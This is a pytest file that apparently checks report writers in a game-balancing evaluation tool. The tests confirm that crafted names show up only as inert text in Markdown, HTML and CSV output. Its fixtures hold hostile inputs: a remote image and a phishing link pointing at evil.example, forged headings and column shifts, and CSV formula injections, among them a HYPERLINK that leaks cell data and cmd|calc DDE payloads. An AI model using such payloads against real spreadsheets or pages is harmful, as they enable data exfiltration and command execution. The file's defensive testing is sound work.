"""Names from stores, studies and variants are text in ``report.md`` and ``report.html``: no link, image, heading or
table column of their own, and the page references nothing outside its folder (checked on the HTML, and in a real
browser opened offline where Chromium is installed)."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from issoku.evaluation.reports.html_report import code_span, escape_cell, escape_markdown, is_local, render_report_html
from issoku.evaluation.reports.report import write_report
from issoku.evaluation.games.store import MatchStore
from tests.evaluation.factories import make_record

EVIL = "evil.example"
NAMES = (f"![x](http://{EVIL}/pixel.png)",  # a remote image, fetched when the page opens
         f"[verify your account](https://{EVIL}/login)",  # a phishing link
         f"a|b <https://{EVIL}/auto>",  # a column shift and an autolink
         "x\n\n## Headlines\n\n- strongest policy random +182 Elo\n",  # a forged section
         "`code` `` <img src=//evil.example/i.png>")


class _Page(HTMLParser):
    """Every URL-bearing attribute, every tag, the text of each h2, and each table row's cell count."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.tags: set[str] = set()
        self.h2: list[str] = []
        self.rows: list[list[int]] = []
        self._in_h2 = False

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.urls += [value or "" for name, value in attrs if name in ("src", "href", "srcset", "action", "poster",
                                                                         "data", "formaction", "background")]
        if tag == "h2":
            self._in_h2, self.h2 = True, [*self.h2, ""]
        elif tag == "table":
            self.rows.append([])
        elif tag == "tr":
            self.rows[-1].append(0)
        elif tag in ("td", "th"):
            self.rows[-1][-1] += 1

    def handle_endtag(self, tag):
        if tag == "h2":
            self._in_h2 = False

    def handle_data(self, data):
        if self._in_h2:
            self.h2[-1] += data


def _offline(page: str) -> _Page:
    parsed = _Page()
    parsed.feed(page)
    assert all(is_local(url) for url in parsed.urls), [url for url in parsed.urls if not is_local(url)]
    assert not parsed.tags & {"link", "iframe", "object", "embed", "base", "frame", "audio", "video", "source"}
    assert EVIL not in "".join(parsed.urls) and "url(" not in page.replace("url(#", "")
    assert all(len(set(table)) == 1 for table in parsed.rows), parsed.rows  # every row as wide as the header
    return parsed


def test_markdown_text_shows_exactly_the_name():
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False}).enable("table")
    for name in NAMES:
        rendered = md.renderInline(escape_markdown(name))
        assert "<a " not in rendered and "<img" not in rendered and "<code" not in rendered
        assert rendered == md.renderInline(escape_markdown(name))  # stable
    assert escape_markdown("ma_heuristic=agents/br1.zip") == "ma_heuristic=agents/br1.zip"  # plain names read as typed
    assert md.renderInline(code_span("a`b``c")) == "<code>a`b``c</code>"
    assert escape_cell("a|b \\| c") == "a\\|b \\| c"


def test_a_crafted_store_writes_a_report_whose_names_stay_text(tmp_path):
    """The attack: policy and loadout names in a received store made report.html fetch a remote image, show a phishing
    link and a forged second Headlines section, and shifted table columns."""
    records = []
    for seed in range(24):
        a, b = NAMES[seed % len(NAMES)], NAMES[(seed + 1) % len(NAMES)]
        records.append(replace(make_record((a, b), (1.0, -1.0) if seed % 3 else (-1.0, 1.0), seed=seed,
                                           loadout=NAMES[seed % 2], labels=(NAMES[2], NAMES[3]))))
    with MatchStore(tmp_path / "m.sqlite") as store:
        store.insert(records)
        path = write_report(store, tmp_path / "out", bootstrap=20, progress=False)
    page = _offline((tmp_path / "out" / "report.html").read_text())
    assert [h for h in page.h2 if h.strip() == "Headlines"] == ["Headlines"]
    markdown = path.read_text()
    assert f"](http://{EVIL}" not in markdown.replace(f"\\](http://{EVIL}", "")
    assert "\n## Headlines" in markdown and markdown.count("\n## Headlines") == 1


def test_the_html_page_drops_any_remote_image_or_link_whatever_its_markdown_says():
    page = render_report_html(f"# r\n\n![i](http://{EVIL}/x.png) ![j](//{EVIL}/y.png) [l](https://{EVIL}) "
                              f"<https://{EVIL}/z> [d](data:text/html,x) [ok](games/a.html) ![p](plots/p.png)\n")
    parsed = _offline(page)
    assert parsed.urls.count("games/a.html") == 1 and "plots/p.png" in parsed.urls


@pytest.mark.skipif(not __import__("shutil").which("chromium"), reason="no chromium (scripts/browser.sh)")
def test_the_report_opened_in_a_browser_requests_nothing_outside_its_folder(tmp_path):
    pytest.importorskip("selenium.webdriver")
    from tests.browser import chromium

    (tmp_path / "plots").mkdir()
    markdown = "# r\n\n" + "\n\n".join(f"- {escape_markdown(name)}" for name in NAMES) + \
        "\n\n| a | b |\n|---|---|\n| " + " | ".join(map(escape_cell, map(escape_markdown, NAMES[:2]))) + " |\n"
    (tmp_path / "report.html").write_text(render_report_html(markdown))
    driver = next(iter(chromium()))
    try:
        driver.get((tmp_path / "report.html").as_uri())
        fetched = driver.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
        assert all(url.startswith("file://") for url in fetched), fetched
        assert driver.execute_script("return document.images.length") == 0
    finally:
        driver.quit()


def test_levers_md_writes_loadout_names_from_a_study_as_text(tmp_path):
    """``levers.md`` headed each loadout's table with the study's loadout name as it was: a link, or a heading."""
    from markdown_it import MarkdownIt

    from issoku.evaluation.games.config import StudyConfig
    from issoku.evaluation.design.levers import Lever, write_levers
    from issoku.evaluation.stats.paired import PairedDifference
    from issoku.evaluation.design.variants import Shift
    from issoku.rules.variant import RULES_DIR, Change, NumericField

    crafted = NAMES[0], NAMES[1]
    armour = "tempo/data/armour.toml"
    shifts = [Shift("tempo_duel_v0", f"loadout {side}: score", (side,), "rate",
                    PairedDifference(0.5, 0.6, 0.1, 0.05, 0.15, 0.5, 0.5, 40)) for side in crafted]
    lever = Lever(Change(armour, "mail", "rating", 4, 5), RULES_DIR, NumericField(armour, ("mail",), 4), round=0,
                  shifts=shifts, own=())
    study = StudyConfig(env="tempo_duel_v0", policies=("random",))
    report = write_levers(tmp_path, study, [lever], [], budget=10, step=1, tables=list(crafted), variant=tmp_path / crafted[1])
    html = MarkdownIt("commonmark", {"html": False}).enable("table").render(report.read_text())
    assert "<a " not in html and "<img" not in html and EVIL in html  # shown, as text


def _rendered(markdown: str) -> _Page:
    """The Markdown rendered as CommonMark with tables (raw HTML off, as report.html), checked offline and
    column-true (:func:`_offline`): no link, image or heading of a name's own."""
    from markdown_it import MarkdownIt

    page = _offline(MarkdownIt("commonmark", {"html": False}).enable("table").render(markdown))
    assert not page.tags & {"a", "img"} and all(EVIL not in heading for heading in page.h2), page.tags
    return page


def test_autobalance_md_writes_names_from_targets_studies_and_variants_as_text(tmp_path):
    """``autobalance.md`` wrote loadout names (from the study and targets files), the patch's items (from the
    variant) and the variant folder's name as they were: an image, a link, a forged heading, a shifted column."""
    from issoku.evaluation.design.autobalance import Figures, Outcome, Targets, Trial, write_outcome
    from issoku.evaluation.games.config import StudyConfig
    from issoku.evaluation.stats.metrics import balanced_first_mover
    from issoku.rules.variant import Change
    from issoku.common.outcomes import wilson

    names = [name for name in NAMES if "\n" not in name]
    figures = Figures({name: wilson(70, 100) for name in names}, balanced_first_mover([]), 100)
    trial = Trial((), None, figures, {f"loadout {name}": (0.45, 0.55) for name in names}, phase="verify")
    outcome = Outcome(Targets(loadout_elo_within=50, loadouts=tuple(names)), trial, trial, trial,
                      [Change("tempo/data/armour.toml", NAMES[4], "rating", 4, 5)], tmp_path / NAMES[0],
                      trials=[trial], stages=[NAMES[3].replace("\n", " "), NAMES[1]], edits_note=NAMES[2])
    study = StudyConfig(env="tempo_duel_v0", policies=("random",))
    report = write_outcome(tmp_path, study, outcome, tmp_path / NAMES[1], 10, 10, 100)
    page = _rendered(report.read_text())
    assert "Headlines" not in "".join(page.h2) and EVIL in report.read_text()  # shown, as text


def test_styles_table_writes_style_and_checkpoint_names_as_text():
    """``issoku styles`` printed a style's name (from a checkpoint's metadata), the checkpoint's file name and the
    style's action prefixes into its Markdown table as they were."""
    from issoku.evaluation.strength.ladder import Rung
    from issoku.evaluation.strength.styles import StyleProfile, format_profiles

    rung = Rung("a", "e", 0.0, 10.0, 0.0, 20.0, 0.5, 10)
    profiles = [StyleProfile(f"runs/x/checkpoints/{NAMES[2]}.zip", NAMES[0], (), rung, {"a|b": 0.5, "`k`": 0.5}, 10),
                StyleProfile(f"{NAMES[1]}.zip", NAMES[4], ("a|b",), rung, {"a|b": 1.0}, 10)]
    assert len(_rendered(format_profiles(profiles)).rows) == 1


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def test_a_csv_cell_never_starts_a_formula_and_numbers_stay_numbers():
    """OWASP's CSV-injection rule: a text cell starting with = + - @, tab or carriage return gets a leading '."""
    from issoku.evaluation.reports.csv_output import spreadsheet_cell

    assert [spreadsheet_cell(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
    assert [spreadsheet_cell(value) for value in ("-0.2500", "+1", -3, 0.5, "kenshi", "")] == \
        ["-0.2500", "+1", -3, 0.5, "kenshi", ""]


def test_levers_csv_writes_a_formula_from_a_variant_as_text(tmp_path):
    """``levers.csv`` wrote an item name from a received variant as the cell's start: a spreadsheet ran it."""
    import csv

    from issoku.evaluation.games.config import StudyConfig
    from issoku.evaluation.design.levers import Lever, write_levers
    from issoku.rules.variant import RULES_DIR, Change, NumericField

    armour = "tempo/data/armour.toml"
    levers = [Lever(Change(armour, formula, "rating", 4, 5), RULES_DIR, NumericField(armour, (formula,), 4), round=0)
              for formula in FORMULAS]
    write_levers(tmp_path, StudyConfig(env="tempo_duel_v0", policies=("random",)), levers, [], budget=10, step=1)
    with (tmp_path / "levers.csv").open(newline="") as handle:
        cells = [cell for row in list(csv.reader(handle))[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))], cells
    assert sum(cell.startswith("'") for cell in cells) >= len(FORMULAS)


def test_hunt_md_writes_edited_action_and_edit_names_as_text():
    """``hunt.md`` wrote the edited data's action names and the variant's edit lines in hand-made code spans, which a
    backtick in a name closed: the rest of the name was Markdown again."""
    from issoku.evaluation.strength.hunt_edits import EditedPlay, finding_lines

    plays = [EditedPlay(NAMES[4] + NAMES[0], [NAMES[1]], 0.5, 0.1, 0.2, 0.6, played=True),
             EditedPlay("`x` " + NAMES[0], [], 0.0, 0.0, 0.0, 0.0, played=True)]
    _rendered("\n".join(f"- {line}" for line in finding_lines("br1", plays, (0.1, 0.0, 0.2))))
